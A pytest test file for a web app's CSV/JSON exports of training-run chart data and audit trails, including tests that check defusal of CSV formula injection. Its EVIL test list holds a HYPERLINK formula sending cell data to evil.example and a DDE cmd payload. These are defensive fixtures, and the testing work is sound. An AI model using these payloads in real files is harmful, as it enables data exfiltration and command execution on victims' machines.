"""Downloads of the run page's chart data and of the audit trail (frontend/exports.py): the JSON file
holds what the chart endpoints send the page, the CSV file the same values; the audit trail streams
every page with the page's filters; CSV cells that would start a formula are defused; another team's
run is a 404."""

from __future__ import annotations

import csv
import io
import json
import math

import pytest

from controlplane.telemetry.models import SelectionDecision
from controlplane.telemetry.services import step_ingest
from frontend import exports
from frontend import selectors as sel
from tests.frontend.conftest import KEYS
from tests.frontend.helpers import step_record

pytestmark = pytest.mark.django_db

# The chart endpoints the page polls, by download: what the page draws from.
ENDPOINTS = {"steps": "series", "evaluations": "evaluations", "decisions": "actions", "hora": "hora",
             "energy": "energy", "edge": "edge", "heatmap": "heatmap"}


def download(client, url: str):
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code, response.content[:300])
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return response, body.decode()


def rows_of(text: str) -> tuple[list[str], list[list[str]]]:
    table = list(csv.reader(io.StringIO(text)))
    return table[0], table[1:]


def same(cell: str, value) -> bool:
    if value is None:
        return cell == ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return math.isclose(float(cell), value, rel_tol=0, abs_tol=0) or float(cell) == value
    return cell == str(value)


def endpoint_data(client, run, source: str) -> dict:
    """What the page's poll receives (every page of it) for this download's chart."""
    name = ENDPOINTS[source]
    answer = client.get(f"/data/runs/{run.id}/{name}/?after=-1" if source not in ("energy", "edge")
                        else f"/data/runs/{run.id}/{name}/").json()
    assert not answer.get("has_more"), "a run this small fits one page"
    return answer


@pytest.mark.parametrize("source", list(exports.SOURCES))
def test_each_charts_csv_and_json_hold_what_the_page_draws(alice, run, source):
    response, text = download(alice, f"/data/runs/{run.id}/export/?chart={source}&format=json")
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"] == (
        f'attachment; filename="run-{run.id}-edge-run-{exports.SOURCES[source].title}.json"')
    payload = json.loads(text)
    assert payload["run"] == run.id and payload["chart"] == source
    data = payload["data"]
    drawn = endpoint_data(alice, run, source)
    for key, value in data.items():
        if key in drawn:
            assert drawn[key] == value, f"{source}: {key} differs from what the chart endpoint sends"
    assert set(data) - set(drawn) <= {"rows", "at_step"}, "the file holds the chart's series, nothing invented"
    assert data.get("step") or data.get("edges") or data.get("buckets"), "the fixture run has data for every chart"

    response, text = download(alice, f"/data/runs/{run.id}/export/?chart={source}&format=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].endswith(f'-{exports.SOURCES[source].title}.csv"')
    header, rows = rows_of(text)
    expected_header, expected_rows = exports.SOURCES[source].table(data)
    assert header == expected_header and len(rows) == len(expected_rows) > 0
    for row, values in zip(rows, expected_rows, strict=True):
        assert all(same(c, v) for c, v in zip(row, values, strict=True)), (source, row, values)


def test_the_step_table_has_a_row_a_step_and_a_column_a_series(alice, run):
    _, text = download(alice, f"/data/runs/{run.id}/export/?chart=steps&format=json")
    data = json.loads(text)["data"]
    header, rows = rows_of(download(alice, f"/data/runs/{run.id}/export/?chart=steps&format=csv")[1])
    assert [int(r[0]) for r in rows] == data["step"] == list(range(6))
    reward = header.index("reward_mean")
    assert [float(r[reward]) for r in rows] == data["reward_mean"] == [0.25 + s / 100 for s in range(6)]
    phase = header.index("seconds.generate")  # nested series: group.name
    assert [float(r[phase]) for r in rows] == data["seconds"]["generate"]
    assert any(h.startswith("metrics.") for h in header)
    decisions = rows_of(download(alice, f"/data/runs/{run.id}/export/?chart=decisions&format=csv")[1])
    assert "counts.hive.kept" in decisions[0] and [int(r[decisions[0].index("counts.hive.kept")]) for r in
                                                   decisions[1]] == [4] * 6


def test_a_longer_run_is_exported_whole_not_a_poll_page(alice, run):
    for step in range(6, 6 + sel.AGGREGATE_STEP_PAGE + 5):  # more steps than one page of decision counts
        step_ingest(run_id=run.id, record=step_record(step, KEYS[:1]))
    data = json.loads(download(alice, f"/data/runs/{run.id}/export/?chart=decisions&format=json")[1])["data"]
    assert data["step"] == list(range(6 + sel.AGGREGATE_STEP_PAGE + 5))


def test_the_edge_download_is_of_the_step_asked(alice, run):
    data = json.loads(download(alice, f"/data/runs/{run.id}/export/?chart=edge&format=json&step=2")[1])["data"]
    assert data["at_step"] == 2
    assert data["buckets"] == alice.get(f"/data/runs/{run.id}/edge/?step=2").json()["buckets"]
    assert alice.get(f"/data/runs/{run.id}/export/?chart=edge&format=csv&step=x").status_code == 400


def test_unknown_downloads_say_what_to_ask_and_other_teams_runs_are_404(alice, mallory, vera, run):
    unknown = alice.get(f"/data/runs/{run.id}/export/?chart=nothing&format=csv")
    assert unknown.status_code == 400 and "chart must be one of steps, evaluations" in unknown.content.decode()
    xlsx = alice.get(f"/data/runs/{run.id}/export/?chart=steps&format=xlsx")
    assert xlsx.status_code == 400 and "format must be csv or json, got 'xlsx'" in xlsx.content.decode()
    assert alice.get(f"/runs/{run.id}/audit/export/?format=xml").status_code == 400
    assert vera.get(f"/data/runs/{run.id}/export/?chart=steps&format=csv").status_code == 200  # a viewer reads
    for url in (f"/data/runs/{run.id}/export/?chart=steps&format=csv",
                f"/data/runs/{run.id}/export/?chart=heatmap&format=json",
                f"/runs/{run.id}/audit/export/?format=csv", f"/runs/{run.id}/audit/export/?format=json"):
        assert mallory.get(url).status_code == 404, url
    assert alice.get(f"/data/runs/{run.id + 999}/export/?chart=steps&format=csv").status_code == 404


def test_the_run_page_gives_every_chart_a_download(alice, run):
    page = alice.get(f"/runs/{run.id}/")
    config = page.context["page_config"]
    downloads = config["tools"]["downloads"]
    html = page.content.decode()
    charts = [c for c in ("chart-rollouts", "chart-savings", "chart-shares", "chart-acc-rollouts", "chart-acc-hours",
                          "chart-reward", "chart-seconds", "chart-edge", "chart-heatmap", "chart-actions")]
    charts += [p["id"] for p in config["panels"]]
    for chart in charts:
        assert f'id="{chart}"' in html
        assert set(downloads[chart]) == {"csv", "json"}, chart
        assert alice.get(downloads[chart]["csv"]).status_code == 200, chart
    assert {downloads[p["id"]]["json"].rsplit("/", 1)[1] for p in config["panels"]
            if p["view"] == "hora_allocation"} == {"?chart=hora&format=json"}


# -- CSV injection ---------------------------------------------------------------------------------------


def test_cells_that_would_start_a_formula_are_defused_and_numbers_are_not():
    assert [exports.cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "ok", "a=b")] == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "ok", "a=b"]
    assert exports.cell(-0.5) == -0.5 and exports.cell(0) == 0 and exports.cell(None) == ""


EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]


def test_user_text_in_the_files_cannot_start_a_formula(alice, acme, dataset, enqueued):
    from controlplane.runs.services import run_claim, run_create
    from tests.frontend.helpers import CONFIG

    run = run_create(team=acme, dataset=dataset, name="=evil run", config=dict(CONFIG))
    run_claim(run_id=run.id, worker="test:1")
    for step in range(2):
        step_ingest(run_id=run.id, record=step_record(step, EVIL))
    header, rows = rows_of(download(alice, f"/runs/{run.id}/audit/export/?format=csv")[1])
    keys = {r[header.index("prompt_key")] for r in rows}
    assert keys == {"'" + k for k in EVIL}
    header, rows = rows_of(download(alice, f"/data/runs/{run.id}/export/?chart=edge&format=csv")[1])
    assert {r[header.index("prompt_key")] for r in rows} == {"'" + k for k in EVIL}
    for row in rows:
        assert not any(c.startswith(("=", "+", "-", "@")) for c in row), row
    # the JSON keeps the text as written (a program reads it, not a spreadsheet)
    audit = json.loads(download(alice, f"/runs/{run.id}/audit/export/?format=json")[1])
    assert {d["prompt_key"] for d in audit} == set(EVIL)


# -- the audit trail ---------------------------------------------------------------------------------------


def test_the_audit_download_streams_every_page_with_the_pages_filters(alice, run, monkeypatch):
    monkeypatch.setattr(exports, "AUDIT_CHUNK", 3)  # many keyset pages for a few decisions
    filters = "method=lze&action=selected&step_min=2&step_max=4"
    expected = sel.audit_page(run, method="lze", action="selected", step_min=2, step_max=4, limit=10_000).rows
    assert len(expected) == 6  # 2 selected a step, steps 2-4
    response = alice.get(f"/runs/{run.id}/audit/export/?format=csv&{filters}")
    assert response.streaming
    assert response["Content-Disposition"] == f'attachment; filename="run-{run.id}-edge-run-audit-trail.csv"'
    header, rows = rows_of(b"".join(response.streaming_content).decode())
    assert header == list(exports.AUDIT_COLUMNS)
    assert [(int(r[0]), r[1], r[3], r[4]) for r in rows] == [
        (d["step"], d["prompt_key"], d["method"], d["action"]) for d in expected]
    assert [json.loads(r[header.index("scores")]) for r in rows] == [d["scores"] for d in expected]
    _, text = download(alice, f"/runs/{run.id}/audit/export/?format=json&{filters}")
    assert [(d["id"], d["message"]) for d in json.loads(text)] == [(d["id"], d["message"]) for d in expected]
    # no filter: every decision of the run, across pages
    _, text = download(alice, f"/runs/{run.id}/audit/export/?format=json")
    assert len(json.loads(text)) == SelectionDecision.objects.filter(run=run).count() > 3 * 6


def test_a_wrong_audit_filter_says_what_is_wrong(alice, run):
    response = alice.get(f"/runs/{run.id}/audit/export/?format=csv&step_min=5&step_max=2&action=eaten")
    assert response.status_code == 400
    text = response.content.decode()
    assert "step_max must be >= step_min" in text and "unknown action 'eaten'" in text


def test_the_audit_page_offers_its_filtered_download_and_a_step_with_an_action(alice, run):
    page = alice.get(f"/runs/{run.id}/audit/?method=hive&action=kept&step_min=3&step_max=3")
    assert page.status_code == 200
    rows = page.context["rows"]
    assert rows and {(d["step"], d["method"], d["action"]) for d in rows} == {(3, "hive", "kept")}
    assert len(rows) == len(KEYS[:4])
    html = page.content.decode()
    query = "method=hive&amp;action=kept&amp;step_min=3&amp;step_max=3&amp;format=csv"
    assert f"/runs/{run.id}/audit/export/?{query}" in html


def test_a_run_without_steps_yet_downloads_empty_tables(alice, acme, dataset, enqueued):
    from controlplane.runs.services import run_create
    from tests.frontend.helpers import CONFIG

    run = run_create(team=acme, dataset=dataset, name="Über run: 训练", config=dict(CONFIG))
    for source in exports.SOURCES:
        response, text = download(alice, f"/data/runs/{run.id}/export/?chart={source}&format=csv")
        header, rows = rows_of(text)
        assert header and rows == [], (source, rows)
        assert response["Content-Disposition"].startswith(f'attachment; filename="run-{run.id}-uber-run-')
        json.loads(download(alice, f"/data/runs/{run.id}/export/?chart={source}&format=json")[1])
    _, text = download(alice, f"/runs/{run.id}/audit/export/?format=csv")
    assert rows_of(text) == (list(exports.AUDIT_COLUMNS), [])
